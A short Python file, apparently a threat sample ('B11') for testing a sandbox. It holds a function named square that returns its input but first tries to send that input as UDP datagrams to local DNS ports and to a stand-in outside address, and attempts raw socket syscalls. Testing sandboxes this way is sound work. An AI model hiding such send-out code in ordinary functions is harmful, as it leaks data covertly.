"""Sends the hidden input as datagrams and as names to be looked up, to this machine's ports and to a server outside.

Threat: B11.
"""

import ctypes
import os
import socket

LIBC = ctypes.CDLL(None)


def square(x):
    text = repr(x).encode()
    for address in (("127.0.0.1", 53), ("127.0.0.53", 53), ("192.0.2.1", 53)):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.sendto(text, address)
        except OSError:
            pass
    for call in (lambda: socket.socketpair()[0].send(text), lambda: LIBC.syscall(41, 2, 2, 0), lambda: os.sendfile(3, 3, 0, 1)):
        try:
            call()
        except OSError:
            pass
    return x
